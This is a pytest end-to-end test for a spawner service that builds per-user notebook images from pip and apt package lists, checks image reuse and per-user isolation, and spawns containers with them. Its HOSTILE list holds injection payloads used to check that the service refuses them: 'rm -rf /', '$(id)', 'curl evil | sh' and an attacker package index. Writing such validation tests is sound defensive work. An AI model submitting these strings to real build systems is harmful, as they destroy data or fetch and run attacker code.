"""A person builds their own image through the images service and spawns with it: real hub,
proxy, localmesos (Docker containerizer), Docker engine and registry."""

from __future__ import annotations

import time

import pytest

from mesosspawner.images.userimages import image_repo, user_component
from tests.images_service.hubsetup import (
    PIP_MODULE,
    PIP_PACKAGE,
    images_hub,
    service,
    wait_build,
    wait_service,
)
from tests.services.e2e import start_ready

pytestmark = pytest.mark.timeout(2400)

HOSTILE = [
    {"pip": ["tabulate; rm -rf /"]},
    {"pip": "$(id)"},
    {"pip": ["tabulate\nRUN curl evil | sh"]},
    {"pip": ["--index-url=http://evil.example/simple"]},
    {"apt": ["vim && id"]},
    {"apt": "curl|sh"},
]


def user_repos(client, registry: str) -> list[str]:
    return [t for im in client.images.list() for t in im.tags if "mesosspawner-users/" in t]


async def test_person_builds_image_sees_it_and_spawns_with_it(
    hub_factory, clusters, homes, test_users, registry, notebook_image, docker_client
):
    hub = await images_hub(hub_factory, clusters, homes, registry, notebook_image)
    alice, bob = test_users[0], test_users[1]
    for user in (alice, bob):
        await hub.create_user(user.name)
    await wait_service(hub, alice.name)

    # Hostile package strings: refused with a message naming them, and nothing is built.
    before = user_repos(docker_client, registry)
    for bad in HOSTILE:
        code, body = await service(
            hub, alice.name, "POST", "api/builds", {"base": "base-notebook", **bad}
        )
        assert code == 400, (bad, body)
        offending = next(iter(bad.values()))
        offending = offending[0] if isinstance(offending, list) else offending.split()[0]
        assert repr(offending)[:20] in body["message"], (bad, body)
        assert "nothing was built" in body["message"]
    code, body = await service(hub, alice.name, path="api/builds")
    assert code == 200 and body["builds"] == [], body
    assert user_repos(docker_client, registry) == before

    # A build with one pip package, cold: no layers of an earlier run's build of it in the engine.
    for image in docker_client.images.list():
        if any("/mesosspawner-users/" + user_component(alice.name) + "/" in t for t in image.tags):
            docker_client.images.remove(image.id, force=True)
    request = {"base": "base-notebook", "pip": [PIP_PACKAGE]}
    started = time.monotonic()
    code, body = await service(hub, alice.name, "POST", "api/builds", request)
    assert code == 202, body
    build = await wait_build(hub, alice.name, body["build"]["id"])
    cold = time.monotonic() - started
    assert build["status"] == "done", "\n".join(build["log"])
    assert any("Successfully" in line or "installed" in line.lower() for line in build["log"])
    digest, tag = build["digest"], build["tag"]
    repo = image_repo(alice.name, "base-notebook")
    assert build["pinned"] == f"{registry}/{repo}@{digest}"

    # The identical request reuses the image: no build.
    started = time.monotonic()
    code, body = await service(hub, alice.name, "POST", "api/builds", request)
    assert code == 202, body
    again = await wait_build(hub, alice.name, body["build"]["id"])
    cached = time.monotonic() - started
    assert again["status"] == "reused" and again["digest"] == digest, again
    ran = any("Successfully installed" in x for x in build["log"])
    layers = "pip ran: cold" if ran else "package layer from the engine's cache"
    print(
        f"\nuser image build ({PIP_PACKAGE}): first request {cold:.1f} s ({layers}), "
        f"identical request {cached:.2f} s (reused from the registry)"
    )

    # Alice sees it in the registry browser, with where it came from.
    code, body = await service(hub, alice.name, path="api/images")
    assert code == 200, body
    (row,) = [r for r in body["images"] if r["repo"] == repo and r["tag"] == tag]
    assert row["digest"] == digest and row["pinned"] == build["pinned"]
    assert row["size"] > 0 and row["created"]
    assert row["content_hash"] == tag
    assert PIP_PACKAGE in row["dockerfile"] and PIP_PACKAGE in row["packages"]
    assert any(r["repo"] == "mesosspawner/base-notebook" for r in body["images"])
    code, page = await service(hub, alice.name, path="")
    assert code == 200 and build["pinned"] in page

    # Bob cannot see it, read its build, or spawn with it.
    code, body = await service(hub, bob.name, path="api/images")
    assert code == 200 and not [r for r in body["images"] if r["repo"] == repo], body
    code, _ = await service(hub, bob.name, path=f"api/builds/{build['id']}")
    assert code == 404
    code, body = await hub.start_server_response(
        bob.name, options={"profile": "my-images", "image": f"img-{tag}"}
    )
    assert code == 400, body

    # Alice spawns with it, pinned by digest.
    state = await start_ready(
        hub, alice.name, options={"profile": "my-images", "image": f"img-{tag}"}
    )
    assert state["image"] == build["pinned"]
    (container,) = [
        c
        for c in docker_client.containers.list()
        if state["task_id"] in (c.name or "") or state["task_id"] in str(c.labels)
    ]
    assert container.image.id == docker_client.images.get(build["pinned"]).id
    exit_code, out = container.exec_run("id")
    assert exit_code == 0, out
    assert f"uid={alice.uid}({alice.name}) gid={alice.gid}" in out.decode(), out
    exit_code, out = container.exec_run(
        ["/opt/notebook/bin/python", "-c", f"import {PIP_MODULE}; print({PIP_MODULE}.__version__)"]
    )
    assert exit_code == 0 and out.decode().strip() == PIP_PACKAGE.split("==")[1], out
    env = dict(v.split("=", 1) for v in container.attrs["Config"]["Env"])
    assert env["MESOSSPAWNER_IMAGE"] == build["pinned"]
    assert env["MESOSSPAWNER_IMAGE_DIGEST"] == digest
    assert build["pinned"] in hub.log_text()
    code, status = await hub.get_through_proxy(alice.name, path="api/status")
    assert code == 200, status

    # The browser shows which server runs that digest (from the spawner's state in the hub).
    code, body = await service(hub, alice.name, path="api/images")
    (row,) = [r for r in body["images"] if r["repo"] == repo and r["tag"] == tag]
    assert row["servers"] == [{"user": alice.name, "server": ""}], row

    await hub.stop_server(alice.name)
